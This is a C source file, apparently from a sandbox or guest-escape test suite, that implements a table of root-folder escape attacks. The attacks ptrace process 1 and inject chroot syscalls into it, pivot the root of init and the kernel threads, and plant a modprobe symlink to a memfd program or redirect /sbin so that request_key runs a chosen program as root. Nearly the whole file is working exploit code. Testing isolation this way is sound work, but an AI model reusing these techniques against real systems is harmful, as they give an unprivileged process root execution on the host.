/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The kernel's threads share their root folder with process 1 (kernel/fork.c: CLONE_FS), and look there for the
 * programs that they start. Who moves it says which program it is, and writes to none.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "guest.h"

#define OTHER_ROOT "/tmp/other"
#define BACK "/tmp/back"

static const char *make_program(void)
{
	int err = make_program_without_path();

	return err ? missing("a memfd", err) : NULL;
}

static const char *prepare_root(void)
{
	const char *why = make_program();

	if (why)
		return why;
	(void)mkdir(OTHER_ROOT, 0755);
	(void)mkdir(OTHER_ROOT "/sbin", 0755);
	(void)mkdir(OTHER_ROOT "/proc", 0755);
	(void)mkdir(OTHER_ROOT "/guest", 0755);
	(void)unlink(OTHER_ROOT "/sbin/modprobe");
	if (symlink(program_without_path(), OTHER_ROOT "/sbin/modprobe") < 0 ||
	    (link(ESCAPEE_PROGRAM, OTHER_ROOT ESCAPEE) < 0 && errno != EEXIST))
		return missing(OTHER_ROOT, errno);
	if (mount("proc", OTHER_ROOT "/proc", "proc", 0, NULL) < 0)
		return missing(OTHER_ROOT "/proc", errno);
	return NULL;
}

#ifdef __x86_64__
/* Has process 1, which is traced and stopped, make one system call with a path, and go on where it was. */
static int call_in_init(long call, const char *path)
{
	struct user_regs_struct was, now;
	unsigned long at;
	long words[2] = { 0, 0 }, kept[2];
	int status;

	if (ptrace(PTRACE_GETREGS, 1, NULL, &was) < 0)
		return errno;
	memcpy(words, path, strlen(path));
	at = (was.rsp - 1024) & ~15UL;
	for (unsigned int i = 0; i < 2; i++) {
		kept[i] = ptrace(PTRACE_PEEKDATA, 1, at + 8 * i, NULL);
		(void)ptrace(PTRACE_POKEDATA, 1, at + 8 * i, words[i]);
	}
	now = was;
	now.rip -= 2; /* the instruction "syscall" that it is in */
	now.rax = (unsigned long)call;
	now.orig_rax = -1UL; /* nothing is to be restarted */
	now.rdi = at;
	(void)ptrace(PTRACE_SETREGS, 1, NULL, &now);
	(void)ptrace(PTRACE_SINGLESTEP, 1, NULL, NULL);
	(void)waitpid(1, &status, __WALL);
	(void)ptrace(PTRACE_GETREGS, 1, NULL, &now);
	for (unsigned int i = 0; i < 2; i++)
		(void)ptrace(PTRACE_POKEDATA, 1, at + 8 * i, kept[i]);
	(void)ptrace(PTRACE_SETREGS, 1, NULL, &was);
	return (long)now.rax < 0 ? -(int)now.rax : 0;
}

/* Its working directory stays outside of the other root, and so leads back. */
static int run_chroot_init(void)
{
	int status, err;

	if (ptrace(PTRACE_ATTACH, 1, NULL, NULL) < 0)
		err = errno;
	else if (waitpid(1, &status, __WALL) != 1)
		err = ECHILD;
	else
		err = call_in_init(SYS_chroot, OTHER_ROOT);
	if (!err)
		err = ask_for_module("attack-root");
	(void)usleep(200 * 1000);
	(void)call_in_init(SYS_chroot, ".");
	(void)ptrace(PTRACE_DETACH, 1, NULL, NULL);
	(void)umount2(OTHER_ROOT "/proc", MNT_DETACH);
	return err;
}
#else
static int run_chroot_init(void)
{
	(void)umount2(OTHER_ROOT "/proc", MNT_DETACH);
	return impossible(ENOSYS, "written for amd64 only");
}
#endif

/* pivot_root wants the new root to be a mount, and a folder in it for the old one. */
static const char *prepare_pivot(void)
{
	const char *why = prepare_root();

	if (why)
		return why;
	(void)mkdir(OTHER_ROOT "/old", 0755);
	(void)mkdir(BACK, 0755);
	if (mount(OTHER_ROOT, OTHER_ROOT, NULL, MS_BIND | MS_REC, NULL) < 0)
		return missing("a mount of " OTHER_ROOT, errno);
	return NULL;
}

/*
 * fs/namespace.c chroot_fs_refs(): each task that had the old root folder has the new one, process 1 and the kernel's
 * threads too. Then back again.
 */
static int run_pivot_init(void)
{
	int err = 0;

	if (syscall(SYS_pivot_root, OTHER_ROOT, OTHER_ROOT "/old") < 0)
		err = errno;
	if (err == EINVAL)
		err = impossible(EINVAL, "the root folder has no mount below it");
	if (!err) {
		err = ask_for_module("attack-pivot");
		(void)usleep(200 * 1000);
		if (syscall(SYS_pivot_root, "/old", "/old" BACK) < 0)
			err = errno;
	}
	(void)umount2(BACK, MNT_DETACH);
	(void)umount2(OTHER_ROOT, MNT_DETACH);
	(void)umount2(OTHER_ROOT "/proc", MNT_DETACH);
	return err;
}

/* Process 1 has gone to that root folder before (init.c). */
static int run_next_root(void)
{
	if (access("/sbin/Request-Key", F_OK) < 0 && errno == ENOENT &&
	    access("/sbin/guest-init", F_OK) == 0)
		return impossible(EINVAL, NO_CASEFOLD);
	return syscall(SYS_request_key, "user", "initward:next-root", "x", 0) < 0 ? errno : 0;
}

/*
 * Below the root folder lies the kernel's first one, which is the same in each mount namespace. Who takes what lies on it away,
 * in a namespace of his own, is in it; a link there leads back to what is mounted in the first namespace: in a root folder
 * ".." stays there, but goes to the mount on top (fs/namei.c handle_dots(), step_into()).
 */
static int run_unmount_root(void)
{
	int ns, err = mkdir("/other-sbin", 0755) < 0 ? errno : mount_casefolded("/other-sbin");

	if (err == EINVAL)
		return impossible(EINVAL, NO_CASEFOLD);
	if (!err) /* what its first line names */
		err = copy_program_to(ESCAPEE_PROGRAM, "/other-sbin/guest-init");
	if (err)
		return err;
	ns = unshare(CLONE_NEWNS) < 0 ? -1 : open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	if (ns < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
	    umount2("/", MNT_DETACH) < 0 || setns(ns, CLONE_NEWNS) < 0 ||
	    rename("/sbin", "/no-sbin") < 0 || symlink("/../other-sbin", "/sbin") < 0 ||
	    syscall(SYS_request_key, "user", "initward:unmount-root", "x", 0) < 0)
		return errno;
	return 0;
}

/* Process 2 is the father of the kernel's threads, whose root folder is that of each program that they start. */
static int run_kernel_root(void)
{
	return access("/proc/2/root/.", F_OK) < 0 ? errno : 0;
}

const struct attack root_attacks[] = {
	{ "chroot-init", "call_modprobe(): the root folder of process 1", prepare_root,
	  run_chroot_init, WAITS | SHARED_MOUNTS },
	{ "pivot-init", "call_modprobe(): the root folder of process 1, by pivot_root",
	  prepare_pivot, run_pivot_init, LAST | WAITS | SHARED_MOUNTS },
	{ "kernel-root", "/proc/PID/root of a thread of the kernel", NULL, run_kernel_root,
	  ITS_WORD },
	{ "next-root", "call_sbin_request_key(): process 1 moves a mount to / and calls chroot",
	  NULL, run_next_root, LAST | WAITS | SHARED_MOUNTS },
	{ "unmount-root", "call_sbin_request_key(): the root folder below the root folder",
	  make_program, run_unmount_root, LAST | WAITS | SHARED_MOUNTS },
	{ .name = NULL },
};
